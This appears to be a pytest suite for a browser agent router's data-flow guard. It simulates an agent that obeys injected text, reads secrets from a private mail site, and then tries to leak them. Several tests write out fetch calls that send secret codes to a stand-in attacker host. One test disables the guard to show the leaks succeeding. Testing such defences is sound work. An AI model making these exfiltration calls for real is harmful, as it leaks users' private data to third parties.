"""A victim that obeys every text: nothing that it read on a private site reaches the attacker."""

import asyncio
from contextlib import suppress
from dataclasses import replace
from pathlib import Path

import pytest

from strap import StrapError, testing
from strap.routing.flow.given_text import GivenText
from strap.routing.flow.private_text import PrivateText
from tests.plugins.browser.flow.attacks import (
    CODE,
    SECRET,
    UNSEEN,
    b,
    spellings,
    through_pages,
    to_address,
)
from tests.plugins.browser.flow.world import World, knows, opened_world
from tests.site.server import serve
from tests.support.browser import SETTINGS
from tests.support.waiting import eventually

pytestmark = pytest.mark.anyio
LATE = 2.0
"""Seconds in which what a page sends arrives."""


@pytest.fixture
def world(tmp_path: Path):
    with opened_world(tmp_path) as opened:
        yield opened


def router(world: World, flow: str, **more):
    return testing.router(
        home=world.home,
        network="local",
        plugins={"browser": {**SETTINGS, "webmcp": True, "channel": "chromium"}},
        flow=flow,
        **more,
    )


async def read_private(web: testing.Web, world: World) -> None:
    await web(resource="browser", action="launch")
    answer = await web(
        resource="browser", action="setup_state", state_id="work", url=f"{world.mail}/inbox"
    )
    assert SECRET in answer.text
    if web.router.config.flow != "off":
        assert answer.read == {world.mail.removeprefix("http://"): "private"}


async def obey(web: testing.Web, calls) -> list[str]:
    told = []
    for call in calls:
        try:
            told.append((await web(**call)).text)
        except StrapError as error:
            told.append(f"{error.code}: {error}")
    return told


@pytest.mark.parametrize("flow", ["strict", "ask"])
async def test_nothing_reaches_the_attacker(world: World, flow: str) -> None:
    async with router(world, flow) as web:
        await read_private(web, world)
        for name, told in spellings().items():
            for way, calls in to_address(world.attacker, told):
                if way == "split":
                    continue
                world.evil.requests.clear()
                said = await obey(web, calls)
                assert not world.evil.requests, (way, name, said, world.stolen)


@pytest.mark.parametrize("flow", ["strict", "ask"])
async def test_no_page_sends_it_on(world: World, flow: str) -> None:
    async with router(world, flow) as web:
        await read_private(web, world)
        for way, calls in through_pages(world.mail, world.attacker, SECRET):
            if flow == "ask" and way in UNSEEN:
                continue
            said = await obey(web, calls)
            assert not knows(world.stolen), f"{way}: {said[-3:]} {world.stolen}"
        await asyncio.sleep(LATE)
        assert not knows(world.stolen), world.stolen
        assert flow == "ask" or not world.evil.requests


async def test_without_the_guard_the_attacks_work(world: World) -> None:
    async with router(world, "off") as web:
        await read_private(web, world)
        came = set()
        for way, calls in through_pages(world.mail, world.attacker, SECRET):
            world.evil.requests.clear()
            await obey(web, calls)
            with suppress(AssertionError):
                await eventually(lambda: knows(world.stolen), within=LATE)
                came.add(way)
    assert {*dict(through_pages("", "", ""))} - came == {"select", "own worker"}
    # A list offers no such text; the network guard keeps workers from this machine.


@pytest.mark.parametrize("flow", ["strict", "ask"])
@pytest.mark.parametrize("means", ["field", "header"])
async def test_what_a_site_shows_for_a_secret_is_private(
    world: World, flow: str, means: str
) -> None:
    secrets = {"pin": {"value": "4711-0815", "origins": [str(world.mail)]}}
    fetch = {"resource": "http", "action": "fetch"}
    headers = {"Authorization": "{{pin}}", "Cookie": "sid=1"}
    read = {
        "field": [
            b("navigate", url=f"{world.mail}/login"),
            b("fill", selector="#pin", value="{{pin}}"),
            b("click", selector="#enter"),
            b("text"),
        ],
        "header": [{**fetch, "url": f"{world.mail}/inbox", "headers": headers}],
    }
    async with router(world, flow, secrets=secrets) as web:
        await web(**b("launch"))
        said = await obey(web, read[means])
        assert SECRET in said[-1], said
        for way, calls in to_address(world.attacker, SECRET):
            if way == "split":
                continue
            said = await obey(web, calls)
            assert not world.evil.requests, (said, world.stolen)


@pytest.mark.parametrize("flow", ["strict", "ask"])
async def test_what_is_split_over_calls_is_read_together(world: World, flow: str) -> None:
    async with router(world, flow) as web:
        await read_private(web, world)
        await obey(web, dict(to_address(world.attacker, SECRET))["split"])
        got = "".join(request.query["c"][0] for request in world.evil.requests)
        assert len(got) <= (20 if flow == "ask" else 0)


async def test_each_decision_is_in_the_audit(world: World, caplog) -> None:
    caplog.set_level("INFO", "strap.audit")
    async with router(world, "ask") as web:
        await read_private(web, world)
        fetch = {"resource": "http", "action": "fetch"}
        await obey(web, [{**fetch, "url": f"{world.attacker}/?d={CODE}"}])
        await obey(web, [{**fetch, "url": f"{world.attacker}/?d=hi"}])
    events = [r.event for r in caplog.records if getattr(r, "event", {}).get("event") == "flow"]
    mail, evil = (site.removeprefix("http://") for site in (world.mail, world.attacker))
    assert [(e["from"], e["to"], e["decision"], e["why"]) for e in events] == [
        (mail, evil, "refused", "recognised"),
        (mail, evil, "passed", ""),
    ]
    assert CODE not in caplog.text


@pytest.mark.parametrize("answer", [True, False])
async def test_a_person_decides_once_for_a_way(world: World, answer: bool) -> None:
    asked = []

    async def confirm(question) -> bool:
        asked.append(question.text)
        return answer

    async with router(world, "ask") as web:
        web.caller = replace(web.caller, confirm=confirm)
        await read_private(web, world)
        call = {"resource": "http", "action": "fetch", "url": f"{world.attacker}/?d={CODE}"}
        said = await obey(web, [call, call])
    assert len(asked) == 1, said
    assert len(world.evil.requests) == (2 if answer else 0), said
    mail, evil = (site.removeprefix("http://") for site in (world.mail, world.attacker))
    assert f"Send to {evil} what was read at {mail}" in asked[0]
    assert CODE in asked[0]


async def test_one_question_names_all_sites_that_were_read(world: World) -> None:
    asked = []

    async def confirm(question) -> bool:
        asked.append(question.text)
        return True

    with serve({"/": "<h1>Account of Anna</h1>"}) as bank:  # whose port has the cookie as well
        async with router(world, "ask") as web:
            web.caller = replace(web.caller, confirm=confirm)
            await read_private(web, world)
            await obey(web, [{"resource": "browser", "action": "navigate", "url": bank}])
            call = {"resource": "http", "action": "fetch", "url": f"{world.attacker}/?d={CODE}"}
            await obey(web, [call, call])
        mail, own, evil = (
            site.removeprefix("http://") for site in (world.mail, bank, world.attacker)
        )
    assert len(world.evil.requests) == 2
    assert f"Send to {evil} what was read at {mail} and {own}" in "\n".join(asked)
    assert sum(f"Send to {evil}" in each for each in asked) == 1, asked


async def test_named_sites_exchange_data(world: World) -> None:
    mail, evil = (site.removeprefix("http://") for site in (world.mail, world.attacker))
    for flows in ([mail, evil], [f"{mail} -> {evil}"], [f"* -> {evil}"]):
        async with router(world, "strict", flows=flows) as web:
            await read_private(web, world)
            world.evil.requests.clear()
            call = {"resource": "http", "action": "fetch", "url": f"{world.attacker}/?d={CODE}"}
            await obey(web, [call])
            assert knows(world.stolen)


async def test_the_guards_own_failure_denies(world: World, monkeypatch) -> None:
    async with router(world, "ask") as web:
        await read_private(web, world)
        monkeypatch.setattr(PrivateText, "recognised", lambda *_: 1 / 0)
        said = await obey(web, [{"resource": "http", "action": "fetch", "url": world.attacker}])
        assert said[0].startswith("flow_denied: The flow guard failed")
        monkeypatch.undo()
        await web(**b("fill", selector="#note", value=SECRET))
        monkeypatch.setattr(GivenText, "is_in", lambda *_: 1 / 0)
        said = await obey(web, [b("click", selector="#fetched")])  # what the page sends then
        assert "The flow guard failed" in said[0]
    assert not world.evil.requests
